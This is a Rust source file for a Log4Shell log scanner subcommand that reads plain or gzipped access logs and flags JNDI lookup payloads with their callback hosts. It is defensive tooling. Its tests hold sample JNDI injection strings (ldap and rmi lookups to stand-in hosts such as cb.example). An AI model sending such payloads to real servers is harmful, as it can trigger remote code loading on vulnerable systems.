//! `log4j-scan logs [--format text|json] FILE...`: the first thing to run on
//! access logs after a Log4Shell alert. Every line goes through the payload
//! detector with the `any` context (logs hold values in whatever encoding
//! the client sent); lines that are `live` or `attempt` are printed with
//! their line number, verdict, JNDI name and callback host, the host being
//! what to look for next in DNS, proxy and firewall logs.
//!
//! Files may be plain or gzip (recognised by magic bytes, so rotated logs
//! keep working whatever they are named); `-` is standard input.
use std::fs::File;
use std::io::{self, BufRead, BufReader, Read, Write};

use scanner_core::lookup::{inspect, Context, Inspection, Verdict};
use serde::Serialize;

/// Longest line kept for inspection. A longer one is inspected on its first
/// `MAX_LINE` bytes and the rest is read past, so a log without newlines
/// cannot make the reader hold it all.
pub(crate) const MAX_LINE: usize = 1 << 20;

/// Reads lines of at most [`MAX_LINE`] bytes, lossily decoded as UTF-8
/// (logs are not always valid UTF-8, and a payload in a broken line still
/// matters).
pub(crate) struct Lines<R> {
    inner: R,
    buf: Vec<u8>,
}

impl<R: BufRead> Lines<R> {
    pub(crate) fn new(inner: R) -> Self {
        Lines { inner, buf: Vec::new() }
    }

    /// The next line without its `\n` / `\r\n`, or `None` at the end.
    pub(crate) fn next_line(&mut self) -> io::Result<Option<String>> {
        self.buf.clear();
        let mut any = false;
        loop {
            let chunk = match self.inner.fill_buf() {
                Ok(c) => c,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(e),
            };
            if chunk.is_empty() {
                break;
            }
            any = true;
            let (take, done) = match memchr(chunk) {
                Some(p) => (p + 1, true),
                None => (chunk.len(), false),
            };
            let room = MAX_LINE.saturating_sub(self.buf.len());
            self.buf.extend_from_slice(&chunk[..take.min(room)]);
            self.inner.consume(take);
            if done {
                break;
            }
        }
        if !any {
            return Ok(None);
        }
        while matches!(self.buf.last(), Some(b'\n' | b'\r')) {
            self.buf.pop();
        }
        Ok(Some(String::from_utf8_lossy(&self.buf).into_owned()))
    }
}

fn memchr(b: &[u8]) -> Option<usize> {
    b.iter().position(|&c| c == b'\n')
}

/// Open a log, looking through gzip when the first bytes say so.
fn open(path: &str) -> io::Result<Box<dyn BufRead>> {
    let raw: Box<dyn Read> = if path == "-" { Box::new(io::stdin()) } else { Box::new(File::open(path)?) };
    let mut reader = BufReader::with_capacity(1 << 16, raw);
    let gz = reader.fill_buf()?.starts_with(&[0x1f, 0x8b]);
    Ok(if gz { Box::new(BufReader::with_capacity(1 << 16, flate2::bufread::MultiGzDecoder::new(reader))) } else { Box::new(reader) })
}

#[derive(Serialize)]
struct Hit<'a> {
    file: &'a str,
    line: u64,
    verdict: Verdict,
    jndi: &'a Option<String>,
    host: &'a Option<String>,
    chain: &'a [scanner_core::lookup::Decoder],
    techniques: &'a [scanner_core::lookup::Technique],
    span: Option<(usize, usize)>,
    /// The payload as it appears in the line, cut to a readable length.
    excerpt: String,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Format {
    Text,
    Json,
}

/// Totals over all files.
#[derive(Default, Debug, PartialEq, Eq)]
pub(crate) struct Totals {
    pub lines: u64,
    pub live: u64,
    pub attempt: u64,
}

const USAGE: &str = "usage: log4j-scan logs [--format text|json] FILE... (plain or .gz; - for stdin)";

pub fn main(args: &[String]) -> u8 {
    let mut format = Format::Text;
    let mut files = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--format" => match it.next().map(String::as_str) {
                Some("text") => format = Format::Text,
                Some("json") => format = Format::Json,
                _ => return usage(),
            },
            "--format=text" => format = Format::Text,
            "--format=json" => format = Format::Json,
            "-h" | "--help" => {
                println!("{USAGE}");
                return 0;
            }
            s if s.starts_with("--") => return usage(),
            s => files.push(s.to_string()),
        }
    }
    if files.is_empty() {
        return usage();
    }
    let stdout = io::stdout();
    let mut out = io::BufWriter::new(stdout.lock());
    let mut totals = Totals::default();
    let mut failed = false;
    for f in &files {
        let r = open(f).and_then(|r| scan(f, r, format, &mut out, &mut totals));
        if let Err(e) = r {
            if e.kind() == io::ErrorKind::BrokenPipe {
                return 0;
            }
            eprintln!("log4j-scan logs: {f}: {e}");
            failed = true;
        }
    }
    if out.flush().is_err() {
        return 2;
    }
    eprintln!("{} line{}, {} live, {} attempt", totals.lines, if totals.lines == 1 { "" } else { "s" }, totals.live, totals.attempt);
    if failed {
        2
    } else if totals.live + totals.attempt > 0 {
        1
    } else {
        0
    }
}

fn usage() -> u8 {
    eprintln!("{USAGE}");
    2
}

fn scan(file: &str, reader: impl BufRead, format: Format, out: &mut impl Write, totals: &mut Totals) -> io::Result<()> {
    let mut lines = Lines::new(reader);
    let mut n = 0u64;
    while let Some(line) = lines.next_line()? {
        n += 1;
        totals.lines += 1;
        let found = inspect(&line, Context::Any);
        match found.verdict {
            Verdict::Clean => continue,
            Verdict::Live => totals.live += 1,
            Verdict::Attempt => totals.attempt += 1,
        }
        write_hit(file, n, &line, &found, format, out)?;
    }
    Ok(())
}

fn excerpt(line: &str, span: Option<(usize, usize)>) -> String {
    const MAX: usize = 240;
    let (s, e) = span.unwrap_or((0, line.len()));
    let s = floor(line, s.min(line.len()));
    let e = floor(line, e.min(line.len()).min(s + MAX).max(s));
    let mut x = line[s..e].to_string();
    if e < span.map_or(line.len(), |(_, end)| end.min(line.len())) {
        x.push('…');
    }
    x
}

/// The nearest char boundary at or before `i` (spans are byte offsets that
/// may fall inside a character replaced during decoding).
fn floor(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn write_hit(file: &str, line_no: u64, line: &str, found: &Inspection, format: Format, out: &mut impl Write) -> io::Result<()> {
    let ex = excerpt(line, found.span);
    match format {
        Format::Json => {
            let hit = Hit {
                file,
                line: line_no,
                verdict: found.verdict,
                jndi: &found.jndi,
                host: &found.host,
                chain: &found.chain,
                techniques: &found.techniques,
                span: found.span,
                excerpt: ex,
            };
            serde_json::to_writer(&mut *out, &hit).map_err(io::Error::other)?;
            writeln!(out)
        }
        Format::Text => {
            let techniques: Vec<&str> = found.techniques.iter().map(|t| t.as_str()).collect();
            // Control characters from the log must not reach the terminal.
            let clean = |s: &str| s.chars().map(|c| if c.is_control() { '?' } else { c }).collect::<String>();
            writeln!(
                out,
                "{file}:{line_no}: {} jndi={} host={} [{}] {}",
                found.verdict.as_str(),
                found.jndi.as_deref().map_or("-".to_string(), clean),
                found.host.as_deref().map_or("-".to_string(), clean),
                techniques.join(","),
                clean(&ex)
            )
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_strip_endings_and_cap_length() {
        let mut long = vec![b'a'; MAX_LINE + 10];
        long.extend_from_slice(b"\r\nsecond\nthird");
        let mut l = Lines::new(&long[..]);
        assert_eq!(l.next_line().unwrap().map(|s| s.len()), Some(MAX_LINE));
        assert_eq!(l.next_line().unwrap().as_deref(), Some("second"));
        assert_eq!(l.next_line().unwrap().as_deref(), Some("third"));
        assert_eq!(l.next_line().unwrap(), None);
    }

    #[test]
    fn scans_plain_and_reports_host() {
        let log = "1.2.3.4 - - \"GET / HTTP/1.1\" 200 \"-\" \"Mozilla/5.0\"\n\
                   1.2.3.5 - - \"GET /?q=%24%7Bjndi:ldap://cb.example/a%7D HTTP/1.1\" 200\n\
                   1.2.3.6 - - \"GET /$${jndi:ldap://x.example/a} HTTP/1.1\" 200\n";
        let mut out = Vec::new();
        let mut t = Totals::default();
        scan("access.log", log.as_bytes(), Format::Text, &mut out, &mut t).unwrap();
        assert_eq!(t, Totals { lines: 3, live: 1, attempt: 1 });
        let text = String::from_utf8(out).unwrap();
        assert!(text.starts_with("access.log:2: live jndi=ldap://cb.example/a host=cb.example "), "{text}");
        assert!(text.contains("access.log:3: attempt"), "{text}");
    }

    #[test]
    fn reads_gzip_by_magic() {
        use flate2::write::GzEncoder;
        let mut enc = GzEncoder::new(Vec::new(), flate2::Compression::fast());
        enc.write_all(b"ok\nUA: ${jndi:rmi://cb.example:1099/x}\n").unwrap();
        let gz = enc.finish().unwrap();
        let dir = std::env::temp_dir().join(format!("log4j-scan-logs-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("rotated.1");
        std::fs::write(&path, gz).unwrap();
        let mut out = Vec::new();
        let mut t = Totals::default();
        let p = path.to_str().unwrap();
        scan(p, open(p).unwrap(), Format::Json, &mut out, &mut t).unwrap();
        std::fs::remove_dir_all(&dir).ok();
        let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(v["line"], 2);
        assert_eq!(v["verdict"], "live");
        assert_eq!(v["host"], "cb.example");
        assert_eq!(v["excerpt"], "${jndi:rmi://cb.example:1099/x}");
    }
}
